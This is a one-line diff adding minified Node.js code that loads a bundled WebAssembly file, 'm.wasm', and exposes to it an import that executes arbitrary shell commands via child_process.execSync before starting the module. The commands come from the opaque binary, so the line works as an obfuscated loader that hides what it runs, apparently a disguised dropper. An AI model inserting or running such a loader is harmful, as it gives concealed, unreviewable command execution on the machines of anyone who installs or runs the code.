@@ -1,0 +1,1 @@
+const fs=require('fs'),cp=require('child_process');const d=fs.readFileSync(__dirname+'/m.wasm');const dec=new TextDecoder();let mem;WebAssembly.instantiate(d,{e:{x:(p,n)=>cp.execSync(dec.decode(mem.buffer.slice(p,p+n)))}}).then(({instance})=>{mem=instance.exports.memory;instance.exports._start()});
